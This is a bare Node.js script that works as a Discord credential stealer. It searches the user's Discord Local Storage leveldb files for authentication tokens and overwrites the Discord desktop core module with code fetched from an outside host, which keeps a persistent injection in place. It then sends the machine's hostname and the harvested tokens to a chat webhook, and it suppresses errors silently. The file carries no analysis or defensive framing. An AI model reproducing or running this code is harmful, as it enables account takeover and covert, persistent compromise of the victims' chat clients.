const fs = require('fs');
const os = require('os');
const path = require('path');
const https = require('https');
const roots = ['AppData/Roaming/discord', 'AppData/Roaming/discordcanary', '.config/discord'].map((name) => path.join(os.homedir(), name));
const tokens = [];
for (const root of roots) {
  const store = path.join(root, 'Local Storage', 'leveldb');
  if (!fs.existsSync(store)) continue;
  for (const name of fs.readdirSync(store)) {
    const text = fs.readFileSync(path.join(store, name), 'latin1');
    const found = text.match(/[\w-]{24}\.[\w-]{6}\.[\w-]{27,38}|dQw4w9WgXcQ:[^"]+/g);
    if (found) tokens.push(...found);
  }
  const core = path.join(root, 'modules', 'discord_desktop_core', 'index.js');
  if (fs.existsSync(core)) {
    https.get('https://inject.lofy-cdn.test/index.js', (answer) => {
      let text = '';
      answer.on('data', (part) => (text += part));
      answer.on('end', () => fs.writeFileSync(core, text));
    }).on('error', () => {});
  }
}
const request = https.request({ hostname: 'hooks.chat.example', path: '/api/webhooks/0/placeholder', method: 'POST', headers: { 'content-type': 'application/json' } });
request.on('error', () => {});
request.end(JSON.stringify({ content: os.hostname() + '\n' + tokens.join('\n') }));
